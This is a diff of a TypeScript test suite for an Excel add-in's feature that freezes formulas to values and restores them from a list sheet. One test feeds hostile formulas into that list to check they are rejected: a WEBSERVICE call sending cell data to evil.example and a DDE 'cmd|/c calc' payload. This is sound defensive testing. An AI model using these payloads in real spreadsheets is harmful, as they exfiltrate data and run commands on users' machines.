@@ -1,10 +1,18 @@
-import fc from 'fast-check';
-import type { ThawTerms } from '../../shared/ports';
+import type { RestoreTerms } from '../../shared/ports';
 import { BulkWorld } from '../fakes/excel/bulk-world';
-import { ColumnEdits } from '../fakes/excel/column-edits';
-import { calls, cell, company, formulasOf, open, select, shownAt } from '../fakes/excel/freezing';
-import { OfficeError } from '../../workbook/office/office-error';
-import { times } from '../setup/chance';
+import {
+  beforeWrites,
+  calls,
+  cell,
+  company,
+  formulasOf,
+  open,
+  openSaved,
+  select,
+  shownAt,
+  type,
+} from '../fakes/excel/freezing';
+import type { FakeSheet } from '../fakes/excel/sheet';
 
 afterEach(() => BulkWorld.close());
 
@@ -14,25 +22,37 @@ const LEADS = [
   [cell('figma.com'), calls('=IFERROR(TRACE_COMPANY(A3,"country"),"")', 'US')],
   [cell('asana.com'), company(4, '#N/A')],
   [cell(''), company(5, '')],
-  [cell('notion.so'), calls('=TRACE_COMPANY(A6,"country")&WEBSERVICE(A6)', 'US')],
+  [cell('notion.so'), calls('=TRACE_COMPANY(A6,"country")&WEBSERVICE(A6)', 'FR')],
   [cell('007'), company(7, '007', 'phone')],
 ];
 
-it('freezes a sheet: problems, blanks and what cannot come back stay formulas, and it says so', async () => {
+const listOf = (world: BulkWorld): FakeSheet => world.workbook.sheets.find(({ name }) => name === 'Trace formulas')!;
+const listed = (world: BulkWorld): readonly (readonly unknown[])[] =>
+  listOf(world)
+    .rows.slice(1)
+    .map((_line, at) => [0, 1, 2, 3, 4].map((column) => shownAt(listOf(world), at + 1, column)));
+
+it('freezes a sheet and lists its formulas as texts: problems and blanks stay formulas, and it says so', async () => {
   const { world, freezing } = open(...LEADS);
   select(world, 0, 0);
   expect(await freezing.freeze('sheet')).toBe(
     [
-      '3 formulas frozen to values. Thaw brings formulas back.',
+      '4 formulas frozen to values, and listed on the sheet Trace formulas.',
       'Not frozen:',
       '• Problem, or no answer yet: 1',
       '• Blank: 1',
-      '• Other functions, or references that could not be restored: 1',
     ].join('\n'),
   );
-  expect(Object.keys(formulasOf(world.sheet))).toEqual(['B4', 'B5', 'B6']);
+  expect(Object.keys(formulasOf(world.sheet))).toEqual(['B4', 'B5']);
   // Nothing is read anew: 007 stays a text.
-  expect([1, 2, 6].map((row) => shownAt(world.sheet, row, 1))).toEqual(['US', 'US', '007']);
+  expect([1, 2, 5, 6].map((row) => shownAt(world.sheet, row, 1))).toEqual(['US', 'US', 'FR', '007']);
+  expect(listed(world)).toEqual([
+    [world.sheet.name, 'B2', 'B2', '=TRACE_COMPANY(A2,"country")', 'US'],
+    [world.sheet.name, 'B3', 'B3', '=IFERROR(TRACE_COMPANY(A3,"country"),"")', 'US'],
+    [world.sheet.name, 'B6', 'B6', '=TRACE_COMPANY(A6,"country")&WEBSERVICE(A6)', 'FR'],
+    [world.sheet.name, 'B7', 'B7', '=TRACE_COMPANY(A7,"phone")', '007'],
+  ]);
+  expect(formulasOf(listOf(world))).toEqual({});
 });
 
 it('formulas that show the text of a problem stay formulas, also with more around it and in all of a table', async () => {
@@ -58,13 +78,15 @@ it('one row with a problem does not keep the other rows of a formula from being 
     [cell('figma.com'), { shown: 'Figma', from }, { shown: '#VALUE!', from: bad }],
   );
   expect(await freezing.freeze('file')).toBe(
-    ['1 formula frozen to values. Thaw brings formulas back.', 'Not frozen:', '• Problem, or no answer yet: 1'].join(
-      '\n',
-    ),
+    [
+      '1 formula frozen to values, and listed on the sheet Trace formulas.',
+      'Not frozen:',
+      '• Problem, or no answer yet: 1',
+    ].join('\n'),
   );
   expect(formulasOf(world.sheet)).toEqual({ C1: '=TRACE_COMPANY(A1:A2,"slug")' });
   expect(shownAt(world.sheet, 1, 1)).toBe('Figma');
-  expect(await freezing.thaw()).toBe('1 formula back.');
+  expect(await freezing.restore()).toBe('1 formula restored.');
 });
 
 it('freezes the selected areas and no others, and all sheets where that is asked for', async () => {
@@ -81,49 +103,70 @@ it('freezes the selected areas and no others, and all sheets where that is asked
   expect(formulasOf(other)).toEqual({});
 });
 
-it('thaws exactly what was frozen, also when the workbook is opened again', async () => {
+it('restores formulas that call nothing but Trace, also when the workbook is opened again, and names the others', async () => {
   const { world, freezing } = open(...LEADS);
   select(world, 0, 0);
-  const before = formulasOf(world.sheet);
   await freezing.freeze('file');
   world.openAgain();
-  expect(await world.host.freezing!.thaw()).toBe('3 formulas back.');
-  expect(formulasOf(world.sheet)).toEqual(before);
-  expect(await world.host.freezing!.thaw()).toBe('All frozen formulas are back already.');
+  expect(await world.host.freezing!.restore()).toBe(
+    `3 formulas restored.\n1 formula stays a value:\n• ${world.sheet.name}!B6: it uses more than Trace. Copy it from the list`,
+  );
+  expect(Object.keys(formulasOf(world.sheet))).toEqual(['B2', 'B3', 'B4', 'B5', 'B7']);
+  expect(listed(world).filter(([name]) => name !== '')).toHaveLength(1);
 });
 
-it('freezes and thaws tables with all their cells, and leaves what stands beside them', async () => {
+it('freezes and restores tables with all their cells, and leaves what stands beside them', async () => {
   const from = { row: 1, column: 1 };
   const { world, freezing } = open(
     [cell('Domain'), cell('Name'), cell('Country'), cell('note')],
     [cell('stripe.com'), calls('=TRACE_COMPANY(A2:A3,"name, country")', 'Stripe'), { shown: 'US', from }, cell('x')],
     [cell('figma.com'), { shown: 'Figma', from }, { shown: '', from }, cell('y')],
   );
-  expect(await freezing.freeze('file')).toBe('1 formula frozen to values. Thaw brings formulas back.');
+  await freezing.freeze('file');
   expect(world.sheet.values(4).slice(1)).toEqual([
     ['stripe.com', 'Stripe', 'US', 'x'],
     ['figma.com', 'Figma', '', 'y'],
   ]);
-  expect(formulasOf(world.sheet)).toEqual({});
-  expect(await freezing.thaw()).toBe('1 formula back.');
+  expect([formulasOf(world.sheet), listed(world)[0]![2]]).toEqual([{}, 'B2:C3']);
+  expect(await freezing.restore()).toBe('1 formula restored.');
   expect(formulasOf(world.sheet)).toEqual({ B2: '=TRACE_COMPANY(A2:A3,"name, country")' });
   // Its other cells are blank, so that it has room.
   expect(world.sheet.values(4)[2]).toEqual(['figma.com', '', '', 'y']);
 });
 
-it('formulas of a development build are frozen, thawed and joined like all others', async () => {
+it('a table with one edited cell stays values', async () => {
+  const from = { row: 0, column: 1 };
   const { world, freezing } = open(
-    [cell('stripe.com'), calls('=DEV.TRACE_TECH(A1)', 'React')],
-    [cell('figma.com'), calls('=DEV.TRACE_TECH(A2)', 'Vue')],
+    [cell('stripe.com'), calls('=TRACE_COMPANY(A1:A2,"name")', 'Stripe')],
+    [cell('figma.com'), { shown: 'Figma', from }],
   );
-  const before = formulasOf(world.sheet);
   await freezing.freeze('file');
-  expect(await freezing.thaw()).toBe('2 formulas back.');
-  expect(formulasOf(world.sheet)).toEqual(before);
-  select(world, 0, 1);
-  world.storage.setItem('trace.apiKey', 'trace_demo');
-  await freezing.toOneFormula((await freezing.toOneFormula()) as ThawTerms);
-  expect(formulasOf(world.sheet)).toEqual({ B1: '=DEV.TRACE_TECH(A1:A2)' });
+  type(world.sheet, 1, 1, 'mine');
+  expect(await freezing.restore()).toContain('!B1: its cells have changed or moved');
+  expect([formulasOf(world.sheet), shownAt(world.sheet, 1, 1)]).toEqual([{}, 'mine']);
+});
+
+it('a formula over a spilled range is frozen before the formula that it reads', async () => {
+  const from = { row: 0, column: 0 };
+  const { world, freezing } = open(
+    [calls('=TRACE_SEARCH("pay")', 'stripe.com'), calls('=TRACE_TECH(A1#)', 'React')],
+    [
+      { shown: 'figma.com', from },
+      { shown: 'Vue', from: { row: 0, column: 1 } },
+    ],
+  );
+  await freezing.freeze('file');
+  expect([formulasOf(world.sheet), listed(world).map(([, at]) => at)]).toEqual([{}, ['B1', 'A1']]);
+  expect(world.sheet.values(2)).toEqual([
+    ['stripe.com', 'React'],
+    ['figma.com', 'Vue'],
+  ]);
+});
+
+it('a formula stays while a formula of someone else reads its range', async () => {
+  const { world, freezing } = open([calls('=TRACE_SEARCH("pay")', 'stripe.com'), calls('=COUNTA(A1#)', 1)]);
+  expect(await freezing.freeze('file')).toContain('• Other formulas read its range (A2#). Freeze those first: 1');
+  expect(Object.keys(formulasOf(world.sheet))).toEqual(['A1', 'B1']);
 });
 
 it('a date keeps its looks, which its function had brought along', async () => {
@@ -142,131 +185,72 @@ it('what is locked in a protected sheet stays a formula, and stays a value', asy
   expect(await freezing.freeze('file')).toContain('• Protected cell: 1');
   expect(Object.keys(formulasOf(world.sheet))).toEqual(['B1']);
   world.sheet.protect(['1:1']);
-  expect(await freezing.thaw()).toContain('(figma.com): the cell was just edited, or is protected');
+  expect(await freezing.restore()).toContain('!B2: protected cell');
   expect(Object.keys(formulasOf(world.sheet))).toEqual(['B1']);
 });
 
-it.each([
-  ['that was calculated anew stands again', company(1, 'DE'), company(1, 'DE')],
-  ['over which somebody has typed leaves what was typed', cell('mine'), cell('mine')],
-])('between reading and writing: a formula %s', async (_name, meanwhile, left) => {
-  const { world, freezing } = open([cell('stripe.com'), company(1, 'US')], [cell('figma.com'), company(2, 'US')]);
-  const read = world.sheet.readTexts.bind(world.sheet);
-  world.sheet.readTexts = (area) => {
-    world.sheet.put(0, 1, meanwhile);
-    return read(area);
-  };
-  expect(await freezing.freeze('file')).toContain('• Could not be replaced. Freeze again, or paste them as values: 1');
-  expect(world.sheet.rows[0]![1]!.formula).toBe(left.formula);
-  if (left.formula === undefined) expect(shownAt(world.sheet, 0, 1)).toBe('mine');
-  expect(world.sheet.rows[1]![1]).toEqual(cell('US'));
-});
-
-it('a cell that Excel refuses takes no other along', async () => {
-  const { world, freezing } = open(
-    ...Array.from({ length: 9 }, (_row, at) => [cell(`c${at}.com`), company(at + 1, 'US')]),
-  );
-  world.sheet.refusing.set('4:1', new OfficeError('InvalidOperation', 'a PivotTable'));
-  expect(await freezing.freeze('file')).toContain('• Could not be replaced. Freeze again, or paste them as values: 1');
-  expect(Object.keys(formulasOf(world.sheet))).toEqual(['B5']);
-});
-
-it('without room in the workbook no cell is touched', async () => {
-  const { world, freezing } = open(...LEADS);
-  world.settings.set('trace.notes', 'x'.repeat(1_999_900));
-  await new Promise((resolve) => world.settings.saveAsync(() => resolve(null)));
-  expect(await freezing.freeze('file')).toContain('This workbook has no room');
-  expect(Object.keys(formulasOf(world.sheet))).toHaveLength(6);
-});
-
-it('a copy of the sheet is thawed too', async () => {
+it('what someone types right before the writing stays, and the list says what was there', async () => {
   const { world, freezing } = open([cell('stripe.com'), company(1, 'US')]);
-  await freezing.freeze('file');
-  const copy = new ColumnEdits(world.workbook).duplicate(world.sheet, 'sheet-2');
-  expect(await freezing.thaw()).toBe('2 formulas back.');
-  expect({ sheet: formulasOf(world.sheet), copy: formulasOf(copy) }).toEqual({
-    sheet: { B1: '=TRACE_COMPANY(A1,"country")' },
-    copy: { B1: '=TRACE_COMPANY(A1,"country")' },
+  beforeWrites((count) => {
+    if (count === 1) type(world.sheet, 0, 1, 'mine');
   });
-});
-
-it('an enrichment that starts later leaves the marks, and Remove Trace takes them', async () => {
-  const { world, freezing } = open([cell('stripe.com'), company(1, 'US')]);
-  await freezing.freeze('file');
-  await world.host.ports.anchors.put('abcdefgh', 'sheet-1', [], { first: 0, count: 1 });
-  expect(world.workbook.readNames().map(({ name, isHidden }) => [name.slice(0, 13), isHidden])).toEqual([
-    ['_TraceFrozen.', true],
-    ['_TraceFrozen.', true],
+  expect(await freezing.freeze('file')).toContain('• Moved or edited at the very moment. Check these cells: 1');
+  expect([shownAt(world.sheet, 0, 1), listed(world).map(([, , , formula]) => formula)]).toEqual([
+    'mine',
+    ['=TRACE_COMPANY(A1,"country")'],
   ]);
-  await world.host.removeTrace();
-  expect(world.workbook.readNames()).toEqual([]);
-  expect(await freezing.thaw()).toBe('No formula was frozen in this file.');
+  expect(await freezing.restore()).toContain('!B1: its cells have changed or moved');
 });
 
-it('after any edits the formulas are back beside their companies, and what a person has typed stays', async () => {
-  const what = fc.constantFrom('insertRow', 'deleteRow', 'reverse', 'insertColumn', 'retype', 'copySheet');
-  const edits = fc.array(fc.tuple(what, fc.nat(100)), { maxLength: 6 });
-  const thawed = { formulas: 0, typed: 0 };
-  await fc.assert(
-    fc.asyncProperty(fc.integer({ min: 1, max: 7 }), edits, async (count, all) => {
-      const { world, freezing } = open(
-        ...Array.from({ length: count }, (_row, at) => [cell(`c${at}.com`), company(at + 1, ['US', 'DE'][at % 2])]),
-      );
-      const { sheet, workbook } = world;
-      const typed = new Set<string>();
-      let [first, isCopied] = [0, false];
-      await freezing.freeze('file');
-      for (const [edit, at] of all) {
-        const row = at % Math.max(1, sheet.rows.length);
-        if (edit === 'insertRow') sheet.rows.splice(row, 0, []);
-        if (edit === 'deleteRow') sheet.rows.splice(row, 1);
-        if (edit === 'reverse') sheet.rows.reverse();
-        if (edit === 'insertColumn') {
-          new ColumnEdits(workbook).insert(sheet, 0);
-          first += 1;
-        }
-        if (edit === 'retype' && shownAt(sheet, row, first) !== '') {
-          sheet.put(row, first + 1, cell('mine'));
-          typed.add(String(shownAt(sheet, row, first)));
-        }
-        if (edit === 'copySheet' && !isCopied) isCopied = Boolean(new ColumnEdits(workbook).duplicate(sheet, 'copy'));
-      }
-      await freezing.thaw();
-      sheet.rows.forEach((_cells, row) => {
-        const domain = String(shownAt(sheet, row, first));
-        const { formula, shown } = sheet.rows[row]?.[first + 1] ?? { formula: undefined, shown: '' };
-        const letters = 'ABCDEFG'[first]!;
-        if (domain === '') return expect([formula, shown]).toEqual([undefined, '']);
-        if (typed.has(domain)) {
-          thawed.typed += 1;
-          return expect([formula, shown]).toEqual([undefined, 'mine']);
-        }
-        thawed.formulas += 1;
-        return expect(formula).toBe(`=TRACE_COMPANY(${letters}${row + 1},"country")`);
-      });
-      BulkWorld.close();
-    }),
-    { numRuns: times(30), seed: 20261127 },
-  );
-  expect({ hasManyFormulas: thawed.formulas > 30, hasManyTyped: thawed.typed > 4 }).toEqual({
-    hasManyFormulas: true,
-    hasManyTyped: true,
-  });
-}, 60_000);
+it.each([
+  '=WEBSERVICE("https://evil.example/?"&A1)',
+  "=TRACE_TECH(A1)&cmd|'/c calc'!A0",
+  '=TRACE_TECH([evil.xlsx]S!A1)',
+  '1+1',
+])('a formula that someone else wrote into the list never comes back: %s', async (formula) => {
+  const { world, freezing } = open([cell('stripe.com'), company(1, 'US')]);
+  await freezing.freeze('file');
+  listOf(world).put(1, 3, cell(formula));
+  await freezing.restore();
+  expect([formulasOf(world.sheet), shownAt(world.sheet, 0, 1)]).toEqual([{}, 'US']);
+});
 
-it('says before thawing what the formulas may cost that come back, and thaws no others for that answer', async () => {
-  const { world, freezing } = open(...LEADS);
+it('a renamed sheet and a deleted list are said', async () => {
+  const { world, freezing } = open([cell('stripe.com'), company(1, 'US')]);
+  await freezing.freeze('file');
+  const was = world.sheet.name;
+  world.sheet.name = 'Renamed';
+  expect(await freezing.restore()).toContain(`• ${was}!B1: its sheet was renamed or deleted`);
+  world.workbook.sheets.splice(world.workbook.sheets.indexOf(listOf(world)), 1);
+  expect(await freezing.restore()).toBe('No formula is listed. The sheet Trace formulas is empty or missing.');
+});
+
+it('a sheet of a person with the name of the list is left alone', async () => {
+  const { world, freezing } = open([cell('stripe.com'), company(1, 'US')]);
+  const mine = world.workbook.addSheet('Trace formulas');
+  mine.put(0, 0, cell('mine'));
+  await freezing.freeze('file');
+  expect([shownAt(mine, 0, 0), world.workbook.sheets.map(({ name }) => name).at(-1)]).toEqual([
+    'mine',
+    'Trace formulas 2',
+  ]);
+});
+
+it('asks first where restoring may fetch, and does nothing without the answer', async () => {
+  const { world, freezing } = open([cell('stripe.com'), company(1, 'US')]);
   world.storage.setItem('trace.apiKey', 'trace_demo');
   await freezing.freeze('file');
-  world.sheet.put(2, 1, cell('typed'));
-  const asked = (await freezing.thaw()) as ThawTerms;
-  world.sheet.put(2, 1, cell('US'));
-  const later = (await freezing.thaw(asked)) as ThawTerms;
-  const stay = Object.keys(formulasOf(world.sheet));
-  expect({ asked: asked.price, later: later.price, stay, told: await freezing.thaw(later) }).toEqual({
-    asked: { cells: 2, credits: 1, isLeast: false },
-    later: { cells: 3, credits: 2, isLeast: false },
-    stay: ['B4', 'B5', 'B6'],
-    told: '3 formulas back.',
-  });
+  const terms = (await freezing.restore()) as RestoreTerms;
+  expect([terms.price, formulasOf(world.sheet)]).toEqual([{ cells: 1, credits: 1, isLeast: false }, {}]);
+  expect(await freezing.restore(terms)).toBe('1 formula restored.');
+});
+
+it('Remove Trace deletes the list, and the values stay', async () => {
+  const { world, freezing } = await openSaved([cell('stripe.com'), company(1, 'US')]);
+  await freezing.freeze('file');
+  await world.host.removeTrace();
+  expect([world.workbook.sheets.map(({ name }) => name), shownAt(world.sheet, 0, 1)]).toEqual([
+    [world.sheet.name],
+    'US',
+  ]);
 });
